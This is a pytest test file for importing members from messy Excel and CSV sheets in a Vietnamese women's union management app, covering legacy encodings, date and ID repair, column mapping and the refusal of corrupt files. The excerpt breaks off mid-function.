"""Excel and CSV import and export, on messy sheets built here the way units make them."""

from __future__ import annotations

import codecs
import csv
import io
import os
import shutil
import time
import unicodedata
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from db.schema import TABLES
from db.store import Change
from desktop.cli.main import main
from desktop.installation.setup import NewUnit, create_unit, login
from desktop.security.session import Session
from desktop.security.users import add_user
from desktop.spreadsheets import reader
from desktop.spreadsheets.cells import convert_cell
from desktop.spreadsheets.dates import parse_cell
from desktop.spreadsheets.encodings import (
    decode_cp1258,
    decode_tcvn3,
    detect_bytes,
    encode_cp1258,
    encode_tcvn3,
    retype_tcvn3,
)
from desktop.spreadsheets.exporter import export_indicators, export_list
from desktop.spreadsheets.headers import map_columns, resolve_user_map
from desktop.spreadsheets.importer import apply_import, plan_import
from desktop.spreadsheets.reader import SheetError
from desktop.spreadsheets.rejects import write_rejects
from desktop.spreadsheets.report import ADD, DUPLICATE, MOVE, REJECTED, UNCHANGED, UPDATE
from desktop.spreadsheets.templates import write_template
from desktop.spreadsheets.xlsx import XlsxBook, XlsxError

PASSWORD = "mat-khau-thu"
DONG = "00000000-0000-4000-8000-0000000000d1"
BAC = "00000000-0000-4000-8000-0000000000b1"
ANH = "00000000-0000-4000-8000-00000000a001"
BINH = "00000000-0000-4000-8000-00000000a002"
CUC = "00000000-0000-4000-8000-00000000a003"
DOMAIN_TABLES = ("units", "branches", "members", "branch_heads", "cadres")
NFD = lambda s: unicodedata.normalize("NFD", s)  # noqa: E731


# -- the unit ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def unit_template(tmp_path_factory) -> Path:
    """A commune with two branches and three members, made once and copied for each test."""
    data = tmp_path_factory.mktemp("template") / "unit"
    created = create_unit(
        data,
        NewUnit("X1", "Hội LHPN xã Tân Phú", "commune", "P1"),
        admin_password=PASSWORD,
    )
    created.session.store.write(
        [
            Change("branches", {"name": "Chi hội Thôn Đông", "area_name": "Thôn Đông"}, id=DONG),
            Change("branches", {"name": "Chi hội Thôn Bắc", "area_name": "Thôn Bắc"}, id=BAC),
            Change(
                "members",
                {
                    "branch_id": DONG,
                    "full_name": "Nguyễn Thị Ánh",
                    "birth_date": "1985-03-05",
                    "citizen_id": "001185000123",
                    "phone": "0912345678",
                },
                id=ANH,
            ),
            Change(
                "members",
                {"branch_id": DONG, "full_name": "Trần Thị Bình", "birth_date": "1990"},
                id=BINH,
            ),
            Change(
                "members",
                {
                    "branch_id": BAC,
                    "full_name": "Lê Thị Cúc",
                    "birth_date": "1978-07-20",
                    "citizen_id": "001178000456",
                    "phone": "0987654321",
                    "status": "active",
                    "special_groups": ["Phụ nữ khuyết tật", "Nữ tiểu thương"],
                    "joined_on": "2001-10-20",
                },
                id=CUC,
            ),
        ]
    )
    created.session.close()
    return data


@pytest.fixture
def unit(unit_template, tmp_path) -> Path:
    data = tmp_path / "unit"
    shutil.copytree(unit_template, data)
    return data


@pytest.fixture
def session(unit):
    s = login(unit, "admin", PASSWORD)
    yield s
    s.close()


def snapshot(session: Session) -> dict:
    """Every domain row, the sync state and the audit log: what a dry run must not change."""
    db = session.store.db
    state = {t: db.execute(f"SELECT * FROM {t} ORDER BY id").fetchall() for t in DOMAIN_TABLES}
    state["sync_state"] = db.execute("SELECT * FROM sync_state ORDER BY key").fetchall()
    state["audit"] = db.execute("SELECT * FROM audit_log ORDER BY seq").fetchall()
    return state


def members(session: Session) -> dict[str, dict]:
    cur = session.store.db.conn.execute("SELECT * FROM members WHERE is_deleted = 0")
    names = [d[0] for d in cur.description]
    return {r[names.index("full_name")]: dict(zip(names, r, strict=True)) for r in cur}


def xlsx(path: Path, rows: list[list], merge: list[str] = ()) -> Path:
    book = Workbook()
    ws = book.active
    ws.title = "Hội viên"
    for row in rows:
        ws.append(row)
    for cells in merge:
        ws.merge_cells(cells)
    book.save(path)
    return path


def fates(plan) -> dict[int, str]:
    return {r.row: r.fate for r in plan.rows}


def outcome(plan, row: int):
    return next(r for r in plan.rows if r.row == row)


# -- encodings -----------------------------------------------------------------------------

# Known pairs: TCVN3 text as it shows in Windows-1252 ("ABC" fonts), and the Vietnamese it is.
TCVN3_WORDS = [
    ("Céng hoµ x· héi chñ nghÜa ViÖt Nam", "Cộng hoà xã hội chủ nghĩa Việt Nam"),
    ("§éc lËp - Tù do - H¹nh phóc", "Độc lập - Tự do - Hạnh phúc"),
    ("Héi Liªn hiÖp Phô n÷ ViÖt Nam", "Hội Liên hiệp Phụ nữ Việt Nam"),
    ("B¶o Th¾ng", "Bảo Thắng"),
    ("M\xadêng Kh\xad¬ng", "Mường Khương"),
    ("NguyÔn ThÞ Hoa", "Nguyễn Thị Hoa"),
    ("Chi héi th«n §«ng", "Chi hội thôn Đông"),
    ("Ngµy sinh", "Ngày sinh"),
    ("Hä vµ tªn", "Họ và tên"),
    ("Sè ®iÖn tho¹i", "Số điện thoại"),
]


@pytest.mark.parametrize(("legacy", "text"), TCVN3_WORDS)
def test_tcvn3_decodes_known_words(legacy, text):
    assert decode_tcvn3(legacy.encode("latin-1")) == text
    assert retype_tcvn3(legacy) == text
    assert encode_tcvn3(text) == legacy.encode("latin-1")


def test_tcvn3_covers_every_lower_case_vietnamese_letter():
    letters = "aàảãáạăằẳẵắặâầẩẫấậeèẻẽéẹêềểễếệiìỉĩíịoòỏõóọôồổỗốộơờởỡớợuùủũúụưừửữứựyỳỷỹýỵđ"
    letters += "ĂÂÊÔƠƯĐ"
    data = encode_tcvn3(letters)
    assert len(data) == len(letters)  # one byte each
    assert decode_tcvn3(data) == letters
    assert retype_tcvn3("Họ tên") is None  # real Unicode text is not retyped


def test_cp1258_tone_marks_compose_to_nfc():
    text = "Nguyễn Thị Thủy, Thôn Đông, Ngọc"
    data = encode_cp1258(text)
    assert "\u0303".encode("cp1258") in data  # the tone is a byte of its own
    assert decode_cp1258(data) == text
    assert unicodedata.is_normalized("NFC", decode_cp1258(data))


@pytest.mark.parametrize(
    ("data", "encoding"),
    [
        ("Họ và tên,Ngày sinh\nNguyễn Thị Ánh,1985\n".encode(), "utf-8"),
        ("Họ và tên,Ngày sinh\nNguyễn Thị Ánh,1985\n".encode("utf-8-sig"), "utf-8-sig"),
        (encode_cp1258("Họ và tên,Ngày sinh\nNguyễn Thị Ánh,1985\nLê Thủy Tiên,1990\n"), "cp1258"),
        (encode_tcvn3("Họ và tên,Ngày sinh\nNguyễn Thị ánh,1985\nLê Thủy Tiên,1990\n"), "tcvn3"),
    ],
)
def test_csv_encoding_is_detected(data, encoding):
    text, found = detect_bytes(data)
    assert found == encoding
    assert text.startswith("Họ và tên,Ngày sinh")


# -- the fast .xlsx reader -------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXCEL_MADE = {
    "[Content_Types].xml": (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
        '<Override PartName="/xl/styles.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/></Types>'
    ),
    "_rels/.rels": (
        f'<Relationships xmlns="{RELS}"><Relationship Id="rId1" '
        f'Type="{DOC}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<workbook xmlns="{MAIN}" xmlns:r="{DOC}"><workbookPr date1904="1"/><sheets>'
        '<sheet name="Hội viên" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{RELS}">'
        f'<Relationship Id="rId1" Type="{DOC}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{DOC}/sharedStrings" Target="/xl/sharedStrings.xml"/>'
        f'<Relationship Id="rId3" Type="{DOC}/styles" Target="styles.xml"/></Relationships>'
    ),
    "xl/sharedStrings.xml": (
        f'<sst xmlns="{MAIN}"><si><t>Họ và tên</t></si>'
        '<si><r><rPr><b/></rPr><t xml:space="preserve">Nguyễn </t></r><r><t>Thị Ánh</t></r>'
        '<rPh sb="0" eb="1"><t>PHONETIC</t></rPh></si><si><t>Ngày sinh</t></si></sst>'
    ),
    "xl/styles.xml": (
        f'<styleSheet xmlns="{MAIN}"><numFmts count="1">'
        '<numFmt numFmtId="164" formatCode="dd/mm/yyyy"/></numFmts>'
        '<fonts count="1"><font/></fonts>'
        '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
        '<borders count="1"><border/></borders><cellStyleXfs count="1"><xf/></cellStyleXfs>'
        '<cellXfs count="3"><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="14"/></cellXfs>'
        '<cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/></cellStyles>'
        "</styleSheet>"
    ),
    # A wrong stored size, a missing row, cells and rows without references.
    "xl/worksheets/sheet1.xml": (
        f'<worksheet xmlns="{MAIN}"><dimension ref="A1:B1"/><sheetData>'
        '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>2</v></c></row>'
        '<row r="3"><c r="A3" t="s"><v>1</v></c><c r="B3" s="1"><v>29650</v></c>'
        '<c r="D3" t="b"><v>1</v></c></row>'
        '<row><c t="inlineStr"><is><t>Lê &amp; Cúc</t></is></c><c s="2"><v>29650.5</v></c>'
        '<c t="e"><v>#N/A</v></c><c t="str"><f>A1</f><v>Họ và tên</v></c>'
        "<c><v>1.5E3</v></c><c><v>42</v></c></row></sheetData></worksheet>"
    ),
}


def excel_made(path: Path) -> Path:
    """An .xlsx the way Excel writes it (shared strings, rich text, styles), built by hand."""
    with zipfile.ZipFile(path, "w") as z:
        for name, text in EXCEL_MADE.items():
            z.writestr(name, text)
    return path


def test_fast_reader_reads_what_openpyxl_reads(tmp_path):
    data = excel_made(tmp_path / "excel.xlsx").read_bytes()
    book = XlsxBook(data)
    [sheet] = book.sheets
    fast = list(book.rows(sheet))
    reference = load_workbook(io.BytesIO(data), read_only=True, data_only=True)["Hội viên"]
    reference.reset_dimensions()
    slow = [
        tuple(r)[: len(f)] for r, f in zip(reference.iter_rows(values_only=True), fast, strict=True)
    ]
    assert fast == slow
    assert fast[0] == ("Họ và tên", "Ngày sinh") and fast[1] == ()
    assert fast[2] == ("Nguyễn Thị Ánh", datetime(1985, 3, 6), None, True)
    assert fast[3] == ("Lê & Cúc", datetime(1985, 3, 6, 12), "#N/A", "Họ và tên", 1500.0, 42)
    assert list(book.rows(sheet, max_row=1, max_col=1)) == [("Họ và tên",)]


def test_openpyxl_reads_what_the_fast_reader_does_not_know(session, tmp_path, monkeypatch):
    path = messy_members(tmp_path / "hv.xlsx")
    fast = plan_import(session.store, path, "members")

    def unknown(data: bytes):
        raise XlsxError("unknown")

    monkeypatch.setattr(reader, "XlsxBook", unknown)
    slow = plan_import(session.store, path, "members")

    def seen(plan) -> list[tuple]:
        return [(r.row, r.fate, r.change and r.change.values, len(r.problems)) for r in plan.rows]

    assert seen(slow) == seen(fast)


# -- cells ---------------------------------------------------------------------------------

TODAY = date(2025, 10, 1)
EPOCH = datetime(1899, 12, 30)


@pytest.mark.parametrize(
    ("cell", "kind", "stored"),
    [
        (datetime(1985, 3, 5), "birth_date", "1985-03-05"),
        (31111, "birth_date", "1985-03-05"),  # a serial number: the date lost its format
        (31111.0, "date", "1985-03-05"),
        ("05/03/1985", "birth_date", "1985-03-05"),
        ("5/3/1985", "birth_date", "1985-03-05"),
        ("5/3/85", "birth_date", "1985-03-05"),
        ("05-03-1985", "date", "1985-03-05"),
        ("05.03.1985", "date", "1985-03-05"),
        ("1985-03-05", "date", "1985-03-05"),
        ("1985-03-05 00:00:00", "date", "1985-03-05"),
        ("ngày 5 tháng 3 năm 1985", "date", "1985-03-05"),
        (1985, "birth_date", "1985"),  # a year, not the serial of 1905
        ("1985", "birth_date", "1985"),
        ("1985", "date", None),  # a year alone is no date: left empty with a warning
        (datetime(2015, 6, 1), "year", 2015),
    ],
)
def test_dates_typed_every_way(cell, kind, stored):
    assert parse_cell(cell, kind, TODAY, EPOCH).value == stored


def test_impossible_dates_are_reasons_not_guesses():
    assert "không phải ngày có thật" in parse_cell("31/02/1985", "date", TODAY, EPOCH).error
    assert "không phải ngày tháng" in parse_cell("mùng 5", "date", TODAY, EPOCH).error
    swapped = parse_cell("03/25/1985", "date", TODAY, EPOCH)
    assert swapped.value == "1985-03-25" and "tháng/ngày/năm" in swapped.warning


def test_excel_damage_to_ids_and_phones_is_repaired_or_explained():
    spec = TABLES["members"].fields_by_name
    cid = convert_cell(20185000999, "members", spec["citizen_id"], today=TODAY, epoch=EPOCH)
    assert cid.value == "020185000999" and "số 0" in cid.warning
    hanoi = convert_cell(1185000999.0, "members", spec["citizen_id"], today=TODAY, epoch=EPOCH)
    assert hanoi.value == "001185000999"
    lost = convert_cell("1,23457E+11", "members", spec["citizen_id"], today=TODAY, epoch=EPOCH)
    assert lost.value is None and "số mũ" in lost.error
    phone = convert_cell(912345678, "members", spec["phone"], today=TODAY, epoch=EPOCH)
    assert phone.value == "0912345678" and phone.warning is None
    status = convert_cell("ĐANG SINH HOẠT", "members", spec["status"], today=TODAY, epoch=EPOCH)
    assert status.value == "active"


# -- columns -------------------------------------------------------------------------------


def test_headers_with_and_without_tones_map_to_fields():
    headers = [
        "STT",
        "Ho ten",
        "Năm sinh",
        "CCCD/CMND",
        "Số điện thoại",
        "Chi hội",
        "Dân tộc",
        "Tôn giáo",
        "Ngay vao Hoi",
        "Số thẻ",
        "Địa chỉ",
        "Ghi chú",
        "Giới tính",
        "SĐT",
    ]
    got = {c.header: (c.field, c.how) for c in map_columns(headers, "members", {})}
    assert got["STT"] == ("-", "ignored")
    assert got["Ho ten"] == ("full_name", "guess")
    assert got["Năm sinh"][0] == "birth_date"
    assert got["CCCD/CMND"][0] == "citizen_id"
    assert got["Ngay vao Hoi"][0] == "joined_on"
    assert got["Chi hội"][0] == "branch_id"
    assert got["Số thẻ"][0] == "card_number"
    assert got["Giới tính"] == (None, "unknown")
    assert got["SĐT"] == (None, "duplicate")  # "Số điện thoại" already is the phone


def test_the_person_corrects_the_mapping():
    user = resolve_user_map(["Giới tính=-", "B=Ghi chú", "SĐT=phone"], "members")
    columns = map_columns(["Họ tên", "Nhận xét", "Giới tính", "SĐT"], "members", user)
    got = {c.header: (c.field, c.how) for c in columns}
    assert got["Nhận xét"] == ("note", "user")
    assert got["Giới tính"] == ("-", "ignored")
    assert got["SĐT"] == ("phone", "user")
    with pytest.raises(ValueError, match="không phải trường"):
        resolve_user_map(["Giới tính=gender"], "members")
    with pytest.raises(ValueError, match="không có cột “Quê quán”"):
        map_columns(["Họ tên"], "members", resolve_user_map(["Quê quán=address"], "members"))


# -- the messy members sheet ----------------------------------------------------------------

HEADER = [
    "STT",
    NFD("Họ và tên"),
    "Ngày sinh",
    "CCCD/CMND",
    "SĐT",
    "Chi hội",
    "Dân tộc",
    "Ngày vào Hội",
    "Tình trạng",
    "Ghi chú",
    "Giới tính",
]


def messy_members(path: Path) -> Path:
    """Rows 6–16 are data; their expected fates are in EXPECTED."""
    rows = [
        ["HỘI LHPN XÃ TÂN PHÚ"],
        ["DANH SÁCH HỘI VIÊN CHI HỘI THÔN ĐÔNG"],
        [],
        HEADER,
        [f"({i})" for i in range(1, 12)],
        # 6: new, NFD name, a real date cell, branch written loosely
        [
            1,
            NFD("Phạm Thị Dung"),
            datetime(1982, 4, 12),
            "001182000789",
            "0905123456",
            "thon dong",
            "Kinh",
            "15/05/2005",
            "Đang sinh hoạt",
            None,
            "Nữ",
        ],
        # 7: new, extra spaces, an Excel serial birth date, CCCD and phone as numbers
        [
            2,
            "Hoàng  Thị   Hoa",
            31048,
            1185000999,
            912000111,
            "Chi hội Thôn Đông",
            "Kinh",
            "2010",
            None,
            None,
            "Nữ",
        ],
        # 8: new, dd-mm-yyyy, a CCCD of province 020 stored as a number (11 digits)
        [
            3,
            "Ngô Thị Lan",
            "07-08-1979",
            20179000321,
            None,
            "CHI HỘI THÔN BẮC",
            "Tày",
            "1/9/98",
            "Đang sinh hoạt",
            None,
            None,
        ],
        # 9: a branch the unit does not have
        [4, "Đỗ Thị Mai", 1988, None, None, "Thôn Nam", None, None, None, None, None],
        # 10: an impossible date
        [5, "Vũ Thị Nga", "31/02/1980", None, None, "Thôn Đông", None, None, None, None, None],
        # 11: row 6 again (this time NFC)
        [
            6,
            "Phạm Thị Dung",
            datetime(1982, 4, 12),
            "001182000789",
            "0905123456",
            "thon dong",
            "Kinh",
            "15/05/2005",
            "Đang sinh hoạt",
            None,
            "Nữ",
        ],
        # 12: identical to the stored record of Nguyễn Thị Ánh
        [
            7,
            "Nguyễn Thị Ánh",
            "05/03/1985",
            "001185000123",
            "0912345678",
            "Thôn Đông",
            None,
            None,
            None,
            None,
            None,
        ],
        # 13: Trần Thị Bình, found by name and year of birth: a new phone number
        [8, "Trần Thị Bình", 1990, None, "0977 111 222", "Thôn Đông", None, None, None, None, None],
        # 14: the citizen ID of Lê Thị Cúc under another name
        [9, "Lê Thị Cẩm", "1978", "001178000456", None, "Thôn Bắc", None, None, None, None, None],
        # 15: under 18
        [10, "Bùi Thị Oanh", "01/01/2015", None, None, "Thôn Bắc", None, None, None, None, None],
        # 16: a CCCD Excel turned into 1,23457E+11
        [
            11,
            "Đinh Thị Phượng",
            "1970",
            "1,23457E+11",
            None,
            "Thôn Bắc",
            None,
            None,
            None,
            None,
            None,
        ],
        [],
        [None, "Tổng cộng: 11 hội viên"],
        [None, None, None, None, None, None, None, "Người lập biểu"],
    ]
    return xlsx(path, rows, merge=["A1:K1", "A2:K2"])


EXPECTED = {
    6: ADD,
    7: ADD,
    8: ADD,
    9: REJECTED,
    10: REJECTED,
    11: DUPLICATE,
    12: UNCHANGED,
    13: UPDATE,
    14: REJECTED,
    15: REJECTED,
    16: REJECTED,
}


def test_each_row_of_a_messy_sheet_has_the_expected_fate(session, tmp_path):
    plan = plan_import(session.store, messy_members(tmp_path / "hv.xlsx"), "members")
    assert plan.header_row == 4
    assert fates(plan) == EXPECTED
    assert plan.skipped == 4  # the numbering row, a blank row, the total, the signature
    columns = {c.letter: c for c in plan.columns}
    assert columns["A"].field == "-" and columns["K"].field is None
    assert outcome(plan, 11).duplicate_of == 6
    assert outcome(plan, 12).record_id == ANH
    update = outcome(plan, 13)
    assert update.record_id == BINH and update.change.values == {"phone": "0977111222"}

    def reasons(row: int) -> list[tuple[str | None, str]]:
        return [(p.field, str(p)) for p in outcome(plan, row).problems]

    [(field, text)] = reasons(9)
    assert field == "branch_id"
    assert text.startswith("dòng 9, hội viên “Đỗ Thị Mai” — Chi hội:")
    assert "không tìm thấy chi hội “Thôn Nam”" in text
    [(field, text)] = reasons(10)
    assert field == "birth_date" and "dòng 10" in text and "“31/02/1980”" in text
    [(field, text)] = reasons(14)
    assert field == "citizen_id" and "Lê Thị Cúc" in text
    assert ("birth_date", "min_age") in [(p.field, p.rule) for p in outcome(plan, 15).problems]
    [(field, text)] = reasons(16)
    assert field == "citizen_id" and "số mũ" in text

    [lan] = outcome(plan, 8).warnings
    assert lan.field == "citizen_id" and "đã thêm lại thành 020179000321" in lan.message
    hoa = outcome(plan, 7)
    assert {w.field for w in hoa.warnings} == {"citizen_id", "joined_on"}
    assert all(w.location == "dòng 7" for w in hoa.warnings)
    assert hoa.change.values["citizen_id"] == "001185000999"
    assert hoa.change.values["phone"] == "0912000111"
    assert hoa.change.values["birth_date"] == "1985-01-01"


def test_the_dry_run_changes_nothing(session, tmp_path):
    before = snapshot(session)
    plan = plan_import(
        session.store, messy_members(tmp_path / "hv.xlsx"), "members", create_branches=True
    )
    assert plan.count(ADD) == 4  # with Thôn Nam planned
    assert snapshot(session) == before


def test_apply_writes_the_accepted_rows_only(session, tmp_path):
    plan = plan_import(session.store, messy_members(tmp_path / "hv.xlsx"), "members")
    audit_before = session.store.db.execute("SELECT count(*) FROM audit_log").fetchone()[0]
    anh_before = members(session)["Nguyễn Thị Ánh"]
    result = apply_import(session.store, plan)
    assert (result.inserted, result.updated, result.branches_created) == (3, 1, 0)
    stored = members(session)
    assert set(stored) == {
        "Nguyễn Thị Ánh",
        "Trần Thị Bình",
        "Lê Thị Cúc",
        "Phạm Thị Dung",
        "Hoàng Thị Hoa",
        "Ngô Thị Lan",
    }
    assert all(unicodedata.is_normalized("NFC", name) for name in stored)
    dung = stored["Phạm Thị Dung"]
    assert (dung["branch_id"], dung["birth_date"], dung["status"]) == (DONG, "1982-04-12", "active")
    assert stored["Ngô Thị Lan"]["branch_id"] == BAC
    assert stored["Ngô Thị Lan"]["joined_on"] == "1998-09-01"
    assert stored["Ngô Thị Lan"]["citizen_id"] == "020179000321"
    assert stored["Hoàng Thị Hoa"]["citizen_id"] == "001185000999"
    assert stored["Hoàng Thị Hoa"]["joined_on"] is None
    assert stored["Trần Thị Bình"]["phone"] == "0977111222"
    assert stored["Nguyễn Thị Ánh"] == anh_before  # identical: not rewritten
    audit_after = session.store.db.execute("SELECT count(*) FROM audit_log").fetchone()[0]
    assert audit_after > audit_before  # the write path logged the import


def test_missing_branches_are_created_once_when_asked(session, tmp_path):
    path = xlsx(
        tmp_path / "b.xlsx",
        [
            ["Họ và tên", "Năm sinh", "Chi hội"],
            ["Đỗ Thị Mai", 1988, "Thôn Nam"],
            ["Lý Thị Yến", 1975, "chi hội thôn nam"],
            ["Mai Thị Xuân", 1980, "thôn đông"],
        ],
    )
    plan = plan_import(session.store, path, "members")
    assert fates(plan) == {2: REJECTED, 3: REJECTED, 4: ADD}
    plan = plan_import(session.store, path, "members", create_branches=True)
    assert fates(plan) == {2: ADD, 3: ADD, 4: ADD}
    assert [b.values["name"] for b in plan.branches_to_create()] == ["Chi hội Thôn Nam"]
    result = apply_import(session.store, plan)
    assert (result.inserted, result.branches_created) == (3, 1)
    branch = session.store.db.execute(
        "SELECT id, name, area_name FROM branches WHERE name = 'Chi hội Thôn Nam'"
    ).fetchall()
    assert len(branch) == 1 and branch[0][2] == "Thôn Nam"
    stored = members(session)
    assert stored["Đỗ Thị Mai"]["branch_id"] == stored["Lý Thị Yến"]["branch_id"] == branch[0][0]


def test_a_sheet_of_one_branch_takes_it_from_its_title(session, tmp_path):
    path = xlsx(
        tmp_path / "t.xlsx",
        [
            ["DANH SÁCH HỘI VIÊN CHI HỘI THÔN BẮC - XÃ TÂN PHÚ"],
            ["TT", "Họ tên", "Năm sinh"],
            [1, "Đào Thị Hạnh", 1960],
        ],
        merge=["A1:C1"],
    )
    plan = plan_import(session.store, path, "members")
    assert plan.default_branch == "Chi hội Thôn Bắc"
    assert outcome(plan, 3).change.values["branch_id"] == BAC


def test_a_branch_column_s_blank_cells_take_the_title_s_branch(session, tmp_path):
    path = xlsx(
        tmp_path / "t.xlsx",
        [
            ["DANH SÁCH HỘI VIÊN CHI HỘI THÔN 3"],
            ["TT", "Họ tên", "Năm sinh", "Chi hội"],
            [1, "Đào Thị Hạnh", 1960, None],
            [2, "Lý Thị Nga", 1961, "Chi hội Thôn Bắc"],
        ],
        merge=["A1:D1"],
    )
    refused = plan_import(session.store, path, "members")
    assert "không tìm thấy chi hội" in refused.rows[0].problems[0].message
    plan = plan_import(session.store, path, "members", create_branches=True)
    assert plan.default_branch == "Chi hội Thôn 3"
    (new,) = plan.branches_to_create()
    assert outcome(plan, 3).change.values["branch_id"] == new.id
    assert outcome(plan, 4).change.values["branch_id"] == BAC


def test_a_branch_named_in_capitals_is_created_in_proper_case(session, tmp_path):
    path = xlsx(
        tmp_path / "c.xlsx",
        [["Họ tên", "Năm sinh", "Chi hội"], ["Đào Thị Hạnh", 1960, "CHI HỘI THÔN 3"]],
    )
    plan = plan_import(session.store, path, "members", create_branches=True)
    (new,) = plan.branches_to_create()
    assert new.values["name"] == "Chi hội Thôn 3" and new.values["area_name"] == "Thôn 3"
    assert "CHI HỘI" not in "\n".join(r.summary("members") for r in plan.rows)


def test_duplicates_in_the_sheet_with_different_data_are_refused(session, tmp_path):
    path = xlsx(
        tmp_path / "d.xlsx",
        [
            ["Họ và tên", "Ngày sinh", "Số CCCD", "Số điện thoại", "Chi hội"],
            ["Phạm Thị Dung", "12/04/1982", "001182000789", "0905123456", "Thôn Đông"],
            ["Phạm Thị Dung", "12/04/1982", "001182000789", "0905999999", "Thôn Đông"],
            ["Phan Thị Dung", "1983", "001182000789", None, "Thôn Đông"],
        ],
    )
    plan = plan_import(session.store, path, "members")
    assert fates(plan) == {2: ADD, 3: REJECTED, 4: REJECTED}
    [problem] = outcome(plan, 3).problems
    assert problem.field == "citizen_id" and "dòng 2" in problem.message


def test_a_refusal_found_only_when_saving_drops_that_row(session, tmp_path):
    path = xlsx(
        tmp_path / "late.xlsx",
        [
            ["Họ và tên", "Ngày sinh", "Số CCCD", "Chi hội"],
            ["Phạm Thị Dung", "12/04/1982", "001182000789", "Thôn Đông"],
            ["Ngô Thị Lan", "07/08/1979", "001179000321", "Thôn Bắc"],
        ],
    )
    plan = plan_import(session.store, path, "members")
    # Someone else saves Ngô Thị Lan's citizen ID between the dry run and the apply.
    session.store.save(
        "members",
        {
            "branch_id": BAC,
            "full_name": "Ngô Lan",
            "birth_date": "1979",
            "citizen_id": "001179000321",
        },
    )
    result = apply_import(session.store, plan)
    assert result.inserted == 1
    assert [r.row for r in result.refused_at_apply] == [3]
    assert outcome(plan, 3).fate == REJECTED
    assert "Phạm Thị Dung" in members(session) and "Ngô Thị Lan" not in members(session)


# -- files that cannot be imported ---------------------------------------------------------


def refused(session, path: Path, table: str = "members", **options) -> str:
    before = snapshot(session)
    with pytest.raises(SheetError) as caught:
        plan_import(session.store, path, table, **options)
    assert snapshot(session) == before
    return str(caught.value)


def test_corrupt_and_protected_files_are_refused_with_a_reason(session, tmp_path):
    noise = tmp_path / "noise.xlsx"
    noise.write_bytes(os.urandom(4096))
    assert refused(session, noise).startswith("Tệp được đặt mật khẩu hoặc bị hỏng")
    protected = tmp_path / "protected.xlsx"  # encrypted OOXML is an OLE2 compound file
    protected.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(4088))
    assert refused(session, protected).startswith("Tệp được đặt mật khẩu hoặc bị hỏng")
    truncated = tmp_path / "truncated.xlsx"
    truncated.write_bytes(messy_members(tmp_path / "whole.xlsx").read_bytes()[:3000])
    assert refused(session, truncated).startswith("Tệp được đặt mật khẩu hoặc bị hỏng")


def test_empty_sheets_and_sheets_without_headers_are_refused(session, tmp_path):
    assert "trống" in refused(session, xlsx(tmp_path / "empty.xlsx", []))
    empty_csv = tmp_path / "empty.csv"
    empty_csv.write_bytes(b"")
    assert "trống" in refused(session, empty_csv)
    header_only = xlsx(tmp_path / "h.xlsx", [["DANH SÁCH"], ["STT", "Họ và tên", "Năm sinh"]])
    assert "Không có dòng dữ liệu" in refused(session, header_only)
    no_header = xlsx(tmp_path / "n.xlsx", [["a", "b"], [1, 2]])
    assert "Không tìm thấy dòng tiêu đề" in refused(session, no_header)
    assert "chỉ rõ cột" in refused(
        session, xlsx(tmp_path / "nn.xlsx", [["Năm sinh", "Chi hội"], [1980, "Thôn Đông"]])
    )
    assert "branch_heads" in refused(session, no_header, table="activities")


# -- CSV and legacy encodings ----------------------------------------------------------------

CSV_ROWS = [
    ["Họ và tên", "Ngày sinh", "Số CCCD", "Chi hội", "Dân tộc"],
    ["Nguyễn Thị Thủy", "12/04/1982", "001182000789", "Thôn Đông", "Kinh"],
    ["Trương Thị Ngọc Hường", "1975", "", "Thôn Bắc", "Mường"],
]


def csv_bytes(rows: list[list[str]], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("encode", "encoding", "found"),
    [
        (lambda t: t.encode("utf-8"), "auto", "utf-8"),
        (lambda t: t.encode("utf-8-sig"), "auto", "utf-8-sig"),
        (lambda t: NFD(t).encode("utf-8"), "auto", "utf-8"),
        (encode_cp1258, "auto", "cp1258"),
        (encode_cp1258, "cp1258", "cp1258"),
        (encode_tcvn3, "auto", "tcvn3"),
        (encode_tcvn3, "tcvn3", "tcvn3"),
    ],
)
def test_csv_files_in_every_encoding_import_the_same(session, tmp_path, encode, encoding, found):
    path = tmp_path / "list.csv"
    path.write_bytes(encode(csv_bytes(CSV_ROWS, ";")))
    plan = plan_import(session.store, path, "members", encoding=encoding)
    assert plan.encoding == found
    assert fates(plan) == {2: ADD, 3: ADD}
    names = [r.change.values["full_name"] for r in plan.rows]
    assert names == ["Nguyễn Thị Thủy", "Trương Thị Ngọc Hường"]
    assert outcome(plan, 3).change.values["ethnicity"] == "Mường"


def test_a_wrong_encoding_choice_is_refused(session, tmp_path):
    path = tmp_path / "list.csv"
    path.write_bytes(encode_cp1258(csv_bytes(CSV_ROWS)))
    assert "bảng mã" in refused(session, path, encoding="utf-8")


def stray_byte_csv(path: Path, *, bom: bool = False) -> Path:
    """A UTF-8 list with one damaged byte in its third line (a name cut by a bad copy)."""
    good = csv_bytes(CSV_ROWS, ";").encode("utf-8")
